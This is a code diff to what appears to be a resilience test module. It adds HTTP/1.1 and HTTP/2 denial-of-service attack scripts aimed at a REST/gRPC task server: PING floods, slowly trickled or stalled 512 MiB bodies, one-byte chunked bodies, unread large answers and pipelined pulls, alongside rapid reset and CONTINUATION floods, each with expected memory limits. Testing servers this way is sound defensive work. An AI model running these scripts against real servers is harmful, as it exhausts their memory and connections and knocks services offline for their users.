@@ -19,6 +19,7 @@ from abusing.wire import (
     INITIAL_WINDOW_SIZE,
     LARGEST_FRAME,
     LARGEST_WINDOW,
+    PREFACE,
     Kind,
     Target,
     block,
@@ -52,7 +53,7 @@ class Attack:
     """Seconds for which one that has sent everything is kept open."""
     reads: bool = True
     text: bool = False
-    """Whether this is HTTP/1.1, or nothing at all, rather than HTTP/2."""
+    """Whether this is HTTP/1.1, or nothing at all; else it is HTTP/2, and not for REST."""
     handshake: bool = True
     """Whether a TLS handshake is completed first."""
     settings: Mapping[int, int] = attrs.field(factory=dict)
@@ -63,6 +64,10 @@ class Attack:
     large_answers: bool = False
     rest: bool | None = None
     """Whether it is for REST only, or for gRPC only."""
+
+    def is_for(self, *, rest: bool) -> bool:
+        """Say whether a server over REST, or over gRPC, can be attacked like this."""
+        return self.rest in (None, rest) and (self.text or not rest)
 
 
 def _streams() -> Iterator[int]:
@@ -261,12 +266,11 @@ def websocket_upgrade(_: Target) -> Iterator[Batch]:
     yield head + b"x", 1
 
 
-def data_after_answer(target: Target) -> Iterator[Batch]:
+def body_after_answer(target: Target) -> Iterator[Batch]:
     """A body that goes on after its early answer."""
-    fields = [*target.fields("Ping"), (b"content-length", b"1000000000")]
-    yield frame(Kind.HEADERS, END_HEADERS, 1, block(fields)), 1
+    yield target.post("ping", 10**9), 1
     for _ in range(50):
-        yield frame(Kind.DATA, 0, 1, bytes(100)), 1
+        yield bytes(100), 1
 
 
 def connect_without_path(_: Target) -> Iterator[Batch]:
@@ -282,6 +286,44 @@ def upgrade_to_http2(_: Target) -> Iterator[Batch]:
         b"upgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n",
         1,
     )
+
+
+def prior_knowledge(_: Target) -> Iterator[Batch]:
+    """HTTP/2 without having asked for it."""
+    yield PREFACE + settings({}) + frame(Kind.PING, 0, 0, b"pingping") * 50, 51
+
+
+def trickled_bodies(target: Target) -> Iterator[Batch]:
+    """Pushes of 512 MiB that have begun, and go on by 4 KB at a time."""
+    yield target.post("push-task-res", 512 * 2**20), 1
+    while True:
+        yield bytes(4096), 1
+
+
+def stalled_bodies(target: Target) -> Iterator[Batch]:
+    """Pushes of 512 MiB of which 40 MB come at once, and then no more."""
+    yield target.post("push-task-res", 512 * 2**20), 1
+    for _ in range(40):
+        yield bytes(MEGABYTE), 1
+
+
+def chunks_of_one_byte(target: Target) -> Iterator[Batch]:
+    """A body whose every byte is a chunk."""
+    yield target.post("push-task-res", None), 1
+    while True:
+        yield b"1\r\nx\r\n" * 200, 200
+
+
+def unread_answers(target: Target) -> Iterator[Batch]:
+    """A pull of a large answer that nobody reads."""
+    yield target.post("pull-task-ins", len(target.pull)) + target.pull, 1
+
+
+def pipelined_pulls(target: Target) -> Iterator[Batch]:
+    """Pulls that are held, one behind the other."""
+    one = target.post("pull-task-ins", len(target.idle_pull)) + target.idle_pull
+    while True:
+        yield one * 50, 50
 
 
 def http1_without_end(_: Target) -> Iterator[Batch]:
@@ -304,8 +346,11 @@ _ZERO = {INITIAL_WINDOW_SIZE: 0}
 _LARGE = ANSWER * ANSWERS + 100 * MEGABYTE
 _LARGE_GRPC = 2 * ANSWER * ANSWERS + 100 * MEGABYTE
 
+# What requests may have together.
+_BODIES = 2**31 + 100 * MEGABYTE
+
 ATTACKS = (
-    Attack(name="none", script=nothing, connections=0),
+    Attack(name="none", script=nothing, connections=0, text=True),
     Attack(name="rapid reset", script=rapid_reset),
     Attack(name="endless headers", script=endless_headers, memory_grpc=250 * MEGABYTE),
     Attack(name="CONTINUATION flood", script=continued_headers, memory_grpc=_ENDLESS_HEADS),
@@ -364,7 +409,41 @@ ATTACKS = (
     Attack(
         name="upgrade to HTTP/2", script=upgrade_to_http2, rest_after=0.05, text=True, rest=True
     ),
-    Attack(name="DATA after the answer", script=data_after_answer, rest_after=0.05, rest=True),
+    Attack(
+        name="HTTP/2, unasked",
+        script=prior_knowledge,
+        rest_after=0.05,
+        text=True,
+        rest=True,
+    ),
+    Attack(
+        name="body after its answer",
+        script=body_after_answer,
+        rest_after=0.05,
+        text=True,
+        rest=True,
+    ),
     Attack(name="CONNECT without a path", script=connect_without_path, rest_after=0.05),
     Attack(name="HTTP/1.1 head without end", script=http1_without_end, text=True, rest=True),
+    Attack(name="4 bodies in small pieces", script=trickled_bodies, text=True, rest=True),
+    Attack(
+        name="100 bodies that stall",
+        script=stalled_bodies,
+        connections=100,
+        text=True,
+        rest=True,
+        memory=_BODIES,
+    ),
+    Attack(name="chunks of one byte", script=chunks_of_one_byte, text=True, rest=True),
+    Attack(
+        name=f"{ANSWERS} answers of 64 MB that nobody reads",
+        script=unread_answers,
+        connections=ANSWERS,
+        reads=False,
+        text=True,
+        large_answers=True,
+        rest=True,
+        memory=_LARGE,
+    ),
+    Attack(name="pulls behind a held pull", script=pipelined_pulls, text=True, rest=True),
 )
